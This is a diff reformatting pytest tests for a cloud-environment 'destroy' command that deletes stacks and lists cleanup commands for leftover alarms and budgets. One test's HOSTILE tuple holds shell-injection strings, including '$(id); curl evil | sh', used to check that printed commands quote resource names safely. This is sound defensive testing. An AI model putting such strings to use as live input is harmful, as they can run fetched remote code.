@@ -23,7 +23,8 @@ pytestmark = pytest.mark.proof
 
 @pytest.fixture
 def run(endpoint, capsys, monkeypatch, tmp_path):
-    """Run the command on an environment; its code, what it printed, and whether a traceback is in it."""
+    """Run the command on an environment; its code, what it printed, and whether a traceback is in
+    it."""
 
     def act(one, *flags, stdin=None, **variables):
         for name, value in (endpoint.client_environment(tmp_path) | variables).items():
@@ -32,7 +33,12 @@ def run(endpoint, capsys, monkeypatch, tmp_path):
             typed = io.StringIO(stdin)
             typed.isatty = lambda: True
             monkeypatch.setattr("sys.stdin", typed)
-        folders = ["--environments", str(one.folder / "environments"), "--experiments", str(one.folder / "experiments")]
+        folders = [
+            "--environments",
+            str(one.folder / "environments"),
+            "--experiments",
+            str(one.folder / "experiments"),
+        ]
         code = program.main(["destroy", "--env", one.name, *folders, "--poll-s", "0.02", *flags])
         said = capsys.readouterr()
         assert "Traceback" not in said.err + said.out
@@ -48,7 +54,16 @@ def test_it_shows_what_goes_and_stays_then_ends_with_what_is_left(small, run):
 
     assert done.code == 0
     shown = re.findall(r"^goes   \S+-(\w+),", done.err, flags=re.MULTILINE)
-    assert shown == ["Workloads", "Fleet", "Observability", "Cluster", "Guard", "ImageTools", "Registry", "Network"]
+    assert shown == [
+        "Workloads",
+        "Fleet",
+        "Observability",
+        "Cluster",
+        "Guard",
+        "ImageTools",
+        "Registry",
+        "Network",
+    ]
     assert re.search(
         rf"^stays  bucket s3://{names.bucket_name(one.environment)}, 0 bytes, USD a month unknown",
         done.err,
@@ -65,7 +80,11 @@ def test_the_name_may_be_typed_and_every_line_of_progress_has_its_time(small, ru
     done = run(one, stdin=f"{one.name}\n")
 
     lines = done.err.splitlines()
-    progress = [line for line in lines if not re.match(r" |as |goes |stays |gone |stuck |removed by |Type ", line)]
+    progress = [
+        line
+        for line in lines
+        if not re.match(r" |as |goes |stays |gone |stuck |removed by |Type ", line)
+    ]
     assert (done.code, one.stacks()) == (0, {"Artifacts": "CREATE_COMPLETE"})
     assert progress
     assert all(re.match(r"\d\d:\d\d:\d\d ", line) for line in progress)
@@ -107,11 +126,16 @@ def test_never_deployed_is_told_asks_for_nothing_and_is_no_fault(small, run):
 
 def test_the_flag_adopts_the_stack_that_it_names_and_says_so(small, run):
     one = small().deploy(("Artifacts",))
-    one.create("Registry", {"Vpc": {"Type": "AWS::EC2::VPC", "Properties": {"CidrBlock": "10.9.0.0/16"}}}, "nobody",
-               "Tandem: as of old")  # fmt: skip
+    one.create(
+        "Registry",
+        {"Vpc": {"Type": "AWS::EC2::VPC", "Properties": {"CidrBlock": "10.9.0.0/16"}}},
+        "nobody",
+        "Tandem: as of old",
+    )
     words = ("--yes-i-mean", one.name)
 
-    left, adopted = run(one, *words), run(one, *words, "--adopt-untagged", f"{one.name}-Registry")
+    left = run(one, *words)
+    adopted = run(one, *words, "--adopt-untagged", f"{one.name}-Registry")
 
     assert (left.code, adopted.code) == (2, 0)
     assert f"goes   {one.name}-Registry, 1 resource, adopted" in adopted.err
@@ -134,21 +158,45 @@ HOSTILE = ("$(id); curl evil | sh", "it's `id`", 'a "b"', "x\ncurl evil", "x\x1b
 @pytest.mark.parametrize("text", HOSTILE)
 def test_a_strangers_name_is_one_word_of_the_command_that_removes_it(small, run, text):
     one = small()
-    alarm, budget = f"{one.name}-{text}", f"tandem-{one.name}-{text}"
+    alarm = f"{one.name}-{text}"
+    budget = f"tandem-{one.name}-{text}"
     one.client("cloudwatch").put_metric_alarm(
-        AlarmName=alarm, Namespace=f"Tandem/{one.name}", MetricName="m", Statistic="Sum", Period=60,
-        EvaluationPeriods=1, Threshold=1, ComparisonOperator="GreaterThanThreshold",
-    )  # fmt: skip
-    one.client("budgets").create_budget(AccountId=ACCOUNT, Budget={
-        "BudgetName": budget, "BudgetType": "COST", "TimeUnit": "MONTHLY",
-        "BudgetLimit": {"Amount": "1", "Unit": "USD"},
-    })  # fmt: skip
+        AlarmName=alarm,
+        Namespace=f"Tandem/{one.name}",
+        MetricName="m",
+        Statistic="Sum",
+        Period=60,
+        EvaluationPeriods=1,
+        Threshold=1,
+        ComparisonOperator="GreaterThanThreshold",
+    )
+    one.client("budgets").create_budget(
+        AccountId=ACCOUNT,
+        Budget={
+            "BudgetName": budget,
+            "BudgetType": "COST",
+            "TimeUnit": "MONTHLY",
+            "BudgetLimit": {"Amount": "1", "Unit": "USD"},
+        },
+    )
 
     said = run(one).out
 
-    commands = [shlex.split(line.partition(": ORPHAN; ")[2]) for line in said.splitlines() if ": ORPHAN; " in line]
+    commands = [
+        shlex.split(line.partition(": ORPHAN; ")[2])
+        for line in said.splitlines()
+        if ": ORPHAN; " in line
+    ]
     assert ["aws", "cloudwatch", "delete-alarms", "--alarm-names", clean_text(alarm)] in commands
-    assert ["aws", "budgets", "delete-budget", "--account-id", ACCOUNT, "--budget-name", clean_text(budget)] in commands
+    assert [
+        "aws",
+        "budgets",
+        "delete-budget",
+        "--account-id",
+        ACCOUNT,
+        "--budget-name",
+        clean_text(budget),
+    ] in commands
     assert len(commands) == 2
     assert said.replace("\n", "").isprintable()
 
@@ -159,9 +207,18 @@ def test_a_document_has_all_of_it(small, run):
     done = run(one, "--yes-i-mean", one.name, "--json")
 
     document = json.loads(done.out)
-    assert (document["environment"], document["account"], document["exit_code"]) == (one.name, ACCOUNT, 0)
+    assert (document["environment"], document["account"], document["exit_code"]) == (
+        one.name,
+        ACCOUNT,
+        0,
+    )
     assert len(document["deleted"]) == 7
-    assert {entry["kind"] for entry in document["kept"]} == {"KMS key", "bucket", "log group", "stack"}
+    assert {entry["kind"] for entry in document["kept"]} == {
+        "KMS key",
+        "bucket",
+        "log group",
+        "stack",
+    }
     assert (document["orphans"], document["unsearched"]) == ([], {})
 
 
@@ -198,7 +255,9 @@ def test_an_interrupt_says_that_the_same_command_goes_on(small, run, monkeypatch
 
 def test_an_environment_that_nobody_declared_is_refused(small, run):
     one = small()
-    (one.folder / "environments" / f"{one.name}.yaml").rename(one.folder / "environments" / "other.yaml")
+    (one.folder / "environments" / f"{one.name}.yaml").rename(
+        one.folder / "environments" / "other.yaml"
+    )
 
     done = run(one)
 
@@ -216,7 +275,9 @@ def test_an_environment_that_the_rules_refuse_today_may_still_be_taken_down(smal
 
 def test_a_kind_that_could_not_be_searched_is_never_taken_for_nothing(small, run, monkeypatch):
     def denied(_account, _owned):
-        raise AccessDeniedError("ListKeys is denied", where="KMS keys", change="allow kms:ListKeys to this identity")
+        raise AccessDeniedError(
+            "ListKeys is denied", where="KMS keys", change="allow kms:ListKeys to this identity"
+        )
 
     monkeypatch.setitem(SEARCHES, "KMS keys", denied)
 
